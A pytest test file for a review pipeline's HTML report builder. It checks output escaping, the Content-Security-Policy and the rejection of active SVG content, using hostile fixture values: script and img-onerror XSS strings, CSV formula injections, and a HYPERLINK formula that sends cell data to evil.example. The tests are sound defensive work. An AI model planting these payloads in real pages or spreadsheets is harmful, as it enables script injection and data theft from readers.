"""Unit tests for pipeline.report: one self-contained, hostile-proof HTML audit report."""

from __future__ import annotations

import base64
import hashlib
import json
import re
from pathlib import Path

import pandas as pd
import pytest

from pipeline import audit, cli, config, raters, robustness
from pipeline import columns as col
from pipeline import report
from pipeline.errors import PipelineError
from pipeline.render.page import script_json
from pipeline.render.svg import inline_svg
from pipeline.io import write_json, write_table, write_text

REPO = Path(__file__).resolve().parents[2]
HOSTILE = Path(__file__).resolve().parents[1] / "fixtures" / "hostile"
SCRIPT_TITLE = "<script>alert(1)</script> Mindfulness for nurses"
IMG_AUTHOR = "<img src=x onerror=alert(1)>"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?q="&A1,"open") peer support'
CLOSER_ABSTRACT = "@SUM(1) -2+3 </script><script>alert(3)</script><!-- \u2028 end"
SVG = """<?xml version="1.0" encoding="utf-8" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"
  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="10pt" height="10pt" viewBox="0 0 10 10" xmlns="http://www.w3.org/2000/svg">
 <metadata><rdf:RDF><cc:Work><dc:date>2024-01-01</dc:date></cc:Work></rdf:RDF></metadata>
 <defs><path id="DejaVuSans-41" d="M 0 0 L 1 1"/><clipPath id="p1"><rect x="0" y="0" width="5" height="5"/></clipPath></defs>
 <g clip-path="url(#p1)"><use xlink:href="#DejaVuSans-41"/></g>
</svg>
"""


@pytest.fixture(scope="module")
def settings() -> config.Settings:
    return config.load(HOSTILE / "config.yaml")


def record_rows() -> pd.DataFrame:
    rows = [
        # record_id, record_key, source, line, title, authors, study, duplicate, rule, with, stage, decision, reason, by, box
        ("psycinfo:1", "doi:10.1/a", "psycinfo", "1", SCRIPT_TITLE, f'[["{IMG_AUTHOR}","Eve"]]', "s-a", "false", "", "",
         "full_text", "included", "inc_effectiveness", "eve", "included"),
        ("scopus:1", "doi:10.1/a", "scopus", "2", SCRIPT_TITLE, '[["Eve","E"]]', "s-a", "true", "same_doi", "psycinfo:1",
         "deduplication", "duplicate", "same_doi", "deduplicate", "duplicate"),
        ("psycinfo:2", "doi:10.1/b", "psycinfo", "14", FORMULA_TITLE, '[["+cmd","Mallory"]]', "s-b", "false", "", "",
         "title_abstract", "excluded", "exc_informal_caregivers", "eve;finn", "ta_excluded"),
    ]
    names = [col.RECORD_ID, col.RECORD_KEY, col.SOURCE, col.LINE, col.TITLE, col.AUTHORS, col.STUDY_ID, col.IS_DUPLICATE,
             col.DEDUP_RULE, col.DEDUP_WITH, *col.SCREEN_COLUMNS]
    frame = pd.DataFrame(rows, columns=names)
    frame[col.FILE] = frame[col.SOURCE].map({"psycinfo": "data/raw/exports/hostile.ris", "scopus": "data/raw/exports/hostile.csv"})
    frame[col.ABSTRACT] = [CLOSER_ABSTRACT, "a different abstract", ""]
    return frame


def study_rows() -> pd.DataFrame:
    return pd.DataFrame({
        col.STUDY_ID: ["s-b", "s-a"], "kept_record_id": ["psycinfo:2", "psycinfo:1"],
        col.TITLE: [FORMULA_TITLE, SCRIPT_TITLE], col.AUTHORS: ['[["+cmd","Mallory"]]', f'[["{IMG_AUTHOR}","Eve"]]'],
        col.YEAR: ["2016", "2015"], col.ABSTRACT: ["", CLOSER_ABSTRACT],
        "provenance": ["{}", '{"abstract":"scopus:1","title":"psycinfo:1"}'], "ta_decision": ["exclude", "include"],
        "ft_decision": ["pending", "include"], col.SCREEN_STAGE: ["title_abstract", "full_text"],
        col.SCREEN_DECISION: ["excluded", "included"], col.SCREEN_REASON: ["exc_informal_caregivers", "inc_effectiveness"],
        col.SCREEN_BY: ["eve;finn", "eve"], col.PRISMA_BOX: ["ta_excluded", "included"],
    })


def decision_rows() -> pd.DataFrame:
    return pd.DataFrame({
        "key": ["doi:10.1/a", "s-b", "doi:10.1/missing"], "stage": ["title_abstract"] * 3,
        "decision": ["include", "exclude", "include"], "reason": ["", "exc_informal_caregivers", ""],
        "reviewer": ["eve", "finn", "eve"], "date": ["2024-03-01"] * 3,
        "note": ["<script>alert('note')</script>", "=1+1", ""], "file": ["eve.csv", "finn.csv", "eve.csv"],
        "line": ["2", "3", "9"],
    })


def make_inputs(**changes) -> report.ReportInputs:
    values = dict(
        records=record_rows(), studies=study_rows(),
        pairs=pd.DataFrame({"record_id_a": ["psycinfo:1", "psycinfo:1", "psycinfo:2"],
                            "record_id_b": ["scopus:1", "psycinfo:2", "scopus:1"],
                            "title_score": ["100.0", "40.0", "41.0"], "outcome": ["duplicate", "distinct", "distinct"],
                            "rule": ["same_doi", "not_similar", "human_different"]}),
        decisions=decision_rows(),
        resolutions=pd.DataFrame({"key": ["s-b"], "stage": ["title_abstract"], "decision": ["exclude"],
                                  "reason": ["exc_informal_caregivers"], "resolved_by": ["gus"], "reviewer": ["gus"],
                                  "date": [""], "note": ["<b>settled</b>"], "file": ["resolutions.csv"], "line": ["2"]}),
        classified=pd.DataFrame({col.STUDY_ID: ["s-a"], "design": ["rct"], "effect": ["effective"],
                                 "country": ['=HYPERLINK("http://evil.example/","USA")'], "interventions": ['["<img src=x>"]'],
                                 col.RULE_LEVEL: ["best"], col.EVIDENCE_LEVEL: ["best"], col.EVIDENCE_RULE: ["design"],
                                 col.EVIDENCE_INPUTS: ['{"design":"rct","effect":"effective"}'], "override_reason": [""],
                                 "trail": ["design rct -> best"],
                                 "extraction_sources": ['{"design":[{"extractor":"eve","quote":"<script>q</script>",'
                                                        '"source":"abstract","value":"rct"}]}']}),
        audit=pd.DataFrame({col.STUDY_ID: ["s-a"], "kind": ["design_not_reported"], "detail": ["<i>x</i>"]}),
        counts={"boxes": {"included": 1, "duplicate": 1, "ta_excluded": 1}, "records_total": 3},
        tables={"table3_country": pd.DataFrame({"Country of Study": ["=HYPERLINK()", "Total"], "Total": ["1", "1"]})},
        agreement=pd.DataFrame({"stage": ["title_abstract"], "reviewer_a": ["eve"], "reviewer_b": ["finn"], "n": ["2"],
                                "kappa": ["-0.5000"]}),
        figures={"prisma_flow": SVG, "evidence_pyramid": SVG},
    )
    values.update(changes)
    return report.ReportInputs(**values)


def page_data(page: str) -> dict:
    found = re.search(r'<script type="application/json" id="report-data">(.*?)</script>', page, re.DOTALL)
    assert found is not None
    return json.loads(found.group(1))


# --- the page --------------------------------------------------------------------------------


def test_record_text_reaches_the_page_only_as_escaped_json(settings):
    page = report.build_report(make_inputs(), settings)
    for attack in ("<script>alert", "<img src=x", "</script><script>", "<b>settled", "<i>x</i>", "\u2028"):
        assert attack not in page, attack
    assert page.count("<script") == 2  # the data block and the page's own script, nothing else
    data = page_data(page)
    assert data == json.loads(json.dumps(report.report_data(make_inputs(), settings)))
    studies = dict(zip([row[0] for row in data["studies"]["rows"]], data["studies"]["rows"]))
    title_at = data["studies"]["columns"].index(col.TITLE)
    assert studies["s-a"][title_at] == SCRIPT_TITLE
    assert studies["s-b"][title_at] == FORMULA_TITLE
    assert studies["s-a"][data["studies"]["columns"].index(col.ABSTRACT)] == CLOSER_ABSTRACT


def test_page_runs_only_its_own_script_and_needs_no_network(settings):
    page = report.build_report(make_inputs(), settings)
    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', page).group(1)
    script = re.search(r"<script>(.*?)</script>\s*</body>", page, re.DOTALL).group(1)
    digest = base64.b64encode(hashlib.sha256(script.encode("utf-8")).digest()).decode()
    assert f"script-src &#x27;sha256-{digest}&#x27;" in policy
    assert "default-src &#x27;none&#x27;" in policy and "img-src data:" in policy
    assert "'unsafe-inline'" not in policy.split("style-src")[0].replace("&#x27;", "'")
    assert not re.search(r"""\b(?:src|href|action)\s*=\s*(?!["']?(?:#|data:))""", page.split('id="report-data"')[0])
    assert "<link" not in page and "@import" not in page
    assert "innerHTML" not in script and "insertAdjacentHTML" not in script and "document.write" not in script


def test_page_is_the_same_bytes_every_time_and_inputs_are_untouched(settings):
    inputs = make_inputs()
    before = {name: getattr(inputs, name).copy() for name in ("records", "studies", "decisions", "pairs")}
    first = report.build_report(inputs, settings)
    assert report.build_report(make_inputs(), settings) == first
    for name, frame in before.items():
        pd.testing.assert_frame_equal(getattr(inputs, name), frame)
    assert not re.search(r"20\d\d-\d\d-\d\dT\d\d:", first)


def test_page_has_every_section_and_the_figures(settings):
    page = report.build_report(make_inputs(), settings)
    for section in ("tab-explore", "tab-prisma", "tab-tables", "tab-reconcile", "tab-agreement", "tab-audit",
                    'id="search"', 'id="f-level"', 'id="f-box"', 'id="f-source"', 'id="f-decision"'):
        assert section in page
    assert 'id="figure-prisma_flow"' in page and 'id="figure-evidence_pyramid"' in page
    assert "<?xml" not in page and "<!DOCTYPE svg" not in page and "<metadata>" not in page


# --- the data --------------------------------------------------------------------------------


def test_decisions_attach_to_studies_by_record_key_or_study_id(settings):
    data = report.report_data(make_inputs(), settings)
    by_study = {(row[0], row[5]): row for row in data["decisions"]}
    assert by_study[("s-a", "eve")][7] == "<script>alert('note')</script>"
    assert by_study[("s-b", "finn")][4] == "exc_informal_caregivers"
    assert by_study[("s-b", "finn")][8:] == ["finn.csv", "3"]
    assert data["unmatched"] == [["", "doi:10.1/missing", "title_abstract", "include", "", "eve", "2024-03-01", "",
                                  "eve.csv", "9"]]
    assert data["resolutions"][0][:2] == ["s-b", "s-b"] and data["resolutions"][0][5] == "gus"


def test_pairs_keep_merges_maybes_and_human_decisions(settings):
    data = report.report_data(make_inputs(), settings)
    assert [(p[0], p[1], p[4]) for p in data["pairs"]] == [("psycinfo:1", "scopus:1", "same_doi"),
                                                          ("psycinfo:2", "scopus:1", "human_different")]


def test_records_carry_provenance_and_only_abstracts_that_differ(settings):
    data = report.report_data(make_inputs(), settings)
    columns = data["records"]["columns"]
    rows = {row[0]: dict(zip(columns, row)) for row in data["records"]["rows"]}
    assert rows["psycinfo:1"][col.ABSTRACT] == ""  # the same as its study's: shown from the study
    assert rows["scopus:1"][col.ABSTRACT] == "a different abstract"
    assert (rows["scopus:1"][col.FILE], rows["scopus:1"][col.LINE]) == ("data/raw/exports/hostile.csv", "2")
    assert rows["scopus:1"][col.DEDUP_RULE] == "same_doi" and rows["scopus:1"][col.DEDUP_WITH] == "psycinfo:1"
    assert rows["psycinfo:1"][col.AUTHORS] == f"{IMG_AUTHOR} Eve"
    studies = {row[0]: dict(zip(data["studies"]["columns"], row)) for row in data["studies"]["rows"]}
    assert studies["s-a"]["records"] == ["psycinfo:1", "scopus:1"]
    assert studies["s-a"]["provenance"] == {"abstract": "scopus:1"}  # the rest come from the kept record


def test_classified_values_keep_their_sources_and_rule(settings):
    data = report.report_data(make_inputs(), settings)
    classified = data["classified"]["s-a"]
    assert classified[col.EVIDENCE_RULE] == "design" and classified["trail"] == "design rct -> best"
    assert classified["extraction_sources"]["design"][0]["quote"] == "<script>q</script>"
    assert classified["interventions"] == ["<img src=x>"]
    assert "s-b" not in data["classified"]


@pytest.mark.parametrize(("frame_name", "missing"), [
    ("records", col.PRISMA_BOX), ("studies", col.SCREEN_DECISION),
], ids=["records", "studies"])
def test_missing_columns_are_named_with_the_fix(settings, frame_name, missing):
    inputs = make_inputs(**{frame_name: getattr(make_inputs(), frame_name).drop(columns=[missing])})
    what = {"records": "screened records", "studies": "screened studies"}[frame_name]
    with pytest.raises(PipelineError, match=rf"{what}: {what} lacks column\(s\) {missing}; rerun the stage that writes it"):
        report.report_data(inputs, settings)


# --- safe embedding --------------------------------------------------------------------------


@pytest.mark.parametrize("value", [
    "</script><script>alert(1)</script>", "<!-- <script>", "a\u2028b\u2029c", "&amp; &lt;", "</SCRIPT >",
], ids=["close-and-open", "comment-open", "line-separators", "entities", "upper-case-close"])
def test_script_json_cannot_close_its_block(value):
    text = script_json({"title": value, "list": [value]})
    assert not set("<>&\u2028\u2029") & set(text)
    assert json.loads(text) == {"title": value, "list": [value]}


def test_inline_svg_strips_prolog_and_prefixes_ids():
    body = inline_svg(SVG, "table2_methodology")
    assert body.startswith("<svg") and "<metadata>" not in body and "dc:date" not in body
    assert 'id="fig-table2_methodology-DejaVuSans-41"' in body
    assert 'xlink:href="#fig-table2_methodology-DejaVuSans-41"' in body
    assert 'clip-path="url(#fig-table2_methodology-p1)"' in body


@pytest.mark.parametrize(("svg", "message"), [
    (SVG.replace("<defs>", "<script>alert(1)</script><defs>"), "figure holds active or external content (element <script>)"),
    (SVG.replace('<g clip-path', '<g onload="alert(1)" clip-path'),
     "figure holds active or external content (event-handler attribute onload='alert(1)')"),
    (SVG.replace("<defs>", "<foreignObject></foreignObject><defs>"), "(element <foreignObject>)"),
    (SVG.replace('xlink:href="#DejaVuSans-41"', 'xlink:href="http://evil.example/x.svg#a"'),
     "(link xlink:href='http://evil.example/x.svg#a' out of the figure)"),
    ("<html>not a figure</html>", "figure is not an SVG document"),
], ids=["script", "event-handler", "foreign-object", "external-link", "not-svg"])
def test_inline_svg_refuses_active_content(svg, message):
    with pytest.raises(PipelineError, match=re.escape(message)) as raised:
        inline_svg(svg, "chart")
    assert raised.value.where.startswith("figures/chart.svg")
    assert "regenerate the figures" in raised.value.message


def test_inline_svg_refuses_odd_figure_names():
    with pytest.raises(PipelineError, match=r"figures/a\"b\.svg: figure name 'a\"b' has characters other than"):
        inline_svg(SVG, 'a"b')


# --- the command line ------------------------------------------------------------------------


def test_cli_report_reads_the_stage_outputs_and_writes_one_page(tmp_path):
    """The report stage end to end through ``python -m pipeline report``, on neutralised CSVs."""
    review = tmp_path / "review"
    review.mkdir()
    write_text((HOSTILE / "config.yaml").read_text(encoding="utf-8"), review / "config.yaml")
    inputs = make_inputs()
    files = {"records": inputs.records, "studies": inputs.studies, "pairs": inputs.pairs,
             "classified": inputs.classified, "interventions": pd.DataFrame({"intervention": ["=x"]}),
             "audit": inputs.audit, "reconciled": pd.DataFrame({"status": ["match"]}),
             "arithmetic": pd.DataFrame({"table": []}), "agreement": inputs.agreement,
             "conflicts": pd.DataFrame({"key": [], "stage": [], "title": [], "decisions": []}),
             "level_agreement": pd.DataFrame(columns=raters.AGREEMENT_COLUMNS),
             "levels": pd.DataFrame(columns=audit.LEVEL_COLUMNS),
             "robustness": pd.DataFrame(columns=robustness.MOVE_COLUMNS),
             "rater_conflicts": pd.DataFrame(columns=raters.CONFLICT_COLUMNS)}
    for name, frame in files.items():
        write_table(frame, review / f"{name}.csv")
    write_table(inputs.tables["table3_country"], review / "table3_country.csv")
    screening = review / "decisions.csv"  # as the screen stage validated eve.csv
    write_text("key,stage,decision,reason,reviewer,date,note,file,line\ndoi:10.1/a,title_abstract,include,,eve,"
               "2024-03-01,\"<script>alert('n')</script>\",data/raw/decisions/screening/eve.csv,2\n", screening)
    write_text("key,stage,decision,reason,resolved_by,date,note,reviewer,file,line\n", review / "resolutions.csv")
    write_json(inputs.counts, review / "counts.json")
    write_text(SVG, review / "prisma_flow.svg")
    write_text("not read", review / "prisma_flow.png")
    out = review / "report" / "index.html"
    argv = ["report", "--config", str(review / "config.yaml"), "--decisions", str(screening),
            "--resolutions", str(review / "resolutions.csv"), "--counts", str(review / "counts.json"),
            "--tables", str(review / "table3_country.csv"),
            "--figures", str(review / "prisma_flow.svg"), str(review / "prisma_flow.png"), "--output-report", str(out)]
    for name in files:
        argv += [f"--{name.replace('_', '-')}", str(review / f"{name}.csv")]
    assert cli.main(argv) == 0
    data = page_data(out.read_text(encoding="utf-8"))
    titles = {row[0]: row[data["studies"]["columns"].index(col.TITLE)] for row in data["studies"]["rows"]}
    assert titles["s-b"] == FORMULA_TITLE  # neutralised on disk, restored on read: the page shows the real title
    assert data["decisions"][0][7] == "<script>alert('n')</script>" and data["decisions"][0][8].endswith("eve.csv")
    assert data["tables"][0]["rows"][0][0] == "=HYPERLINK()"
    assert 'id="figure-prisma_flow"' in out.read_text(encoding="utf-8")


def test_a_bad_decision_file_is_refused_by_screen_which_hands_the_report_what_it_validated(tmp_path, capsys):
    processed = REPO / "tests" / "fixtures" / "review_expected" / "data" / "processed"
    bad = tmp_path / "eve.csv"
    write_text("key,stage,decision,reason,reviewer,date,note\nk,title_abstract,reject,,eve,,\n", bad)
    argv = ["screen", "--config", str(REPO / "tests" / "fixtures" / "review" / "config.yaml"),
            "--records", str(processed / "deduplicate" / "records.csv"),
            "--studies", str(processed / "deduplicate" / "studies.csv"), "--decisions", str(bad)]
    for name in ("records", "studies", "conflicts", "queue-title-abstract", "queue-full-text", "agreement",
                 "unchecked", "decisions", "resolutions", "stopping", "ordering"):
        argv += [f"--output-{name}", str(tmp_path / "screen" / f"{name}.csv")]
    assert cli.main(argv) == 2
    assert f"ERROR: {bad}:2: decision 'reject' is not allowed; use one of: include, exclude, maybe" in capsys.readouterr().err



def test_a_decision_keyed_by_an_earlier_study_id_shows_on_the_study_it_moved_to(settings):
    studies = study_rows().assign(**{col.EARLIER_IDS: ["", "eve2015-0a1b2c"]})
    decisions = decision_rows().assign(key=["eve2015-0a1b2c", "s-b", "doi:10.1/missing"])
    data = report.report_data(make_inputs(studies=studies, decisions=decisions), settings)
    assert [(row[0], row[1]) for row in data["decisions"] if row[5] == "eve"] == [("s-a", "eve2015-0a1b2c")]
    assert [row[1] for row in data["unmatched"]] == ["doi:10.1/missing"]


def test_the_page_carries_the_shipped_rules_as_a_rater_and_the_robustness_verdicts():
    """The audit stage's shipped outputs, as the page gets them: 8 disagreements, one verdict per finding."""
    from dataclasses import replace

    from pipeline.io import read_table

    processed = Path(__file__).resolve().parents[2] / "data" / "processed"
    shipped = config.load(Path(__file__).resolve().parents[2] / "config.yaml")
    inputs = replace(make_inputs(), classified=read_table(processed / "classify/studies.csv"),
                     level_agreement=read_table(processed / "audit/agreement.csv"),
                     levels=read_table(processed / "audit/levels.csv"),
                     robustness=read_table(processed / "audit/robustness.csv"),
                     rater_conflicts=read_table(processed / "audit/conflicts.csv"))
    level_audit = report.report_data(inputs, shipped)["level_audit"]
    assert len(level_audit["disagreements"]) == 8 and len(level_audit["agreement"]["rows"]) == 3
    assert [line.split(":")[0] for line in level_audit["verdicts"]] == audit.finding_tables(shipped)
    assert level_audit["verdicts"][-2].startswith("intervention_levels: moves under 3 of 8 contested studies")


def test_the_methods_state_how_screening_was_ordered_and_stopped(settings):
    stopped = {"rule_name": "hypergeometric stopping test of Callaghan and Müller-Hansen (2020)",
               "recall_target": 0.95, "confidence": 0.9, "screened": 1200, "remaining": 800, "includes_found": 41,
               "p_value": 0.061, "stopped": True, "stopped_unscreened": 800}
    text = report.report_data(make_inputs(stopping=stopped), settings)["methods"]
    assert text.endswith("Screening stopped early by the hypergeometric stopping test of Callaghan and Müller-Hansen "
                         "(2020) with a recall target of 95% at 90% confidence, after 1,200 studies were screened "
                         "(41 passed on); the rule allowed stopping at p = 0.061. The 800 studies left unscreened "
                         "are counted as marked ineligible by automation tools.")
    assert report.report_data(make_inputs(), settings)["methods"] == ""
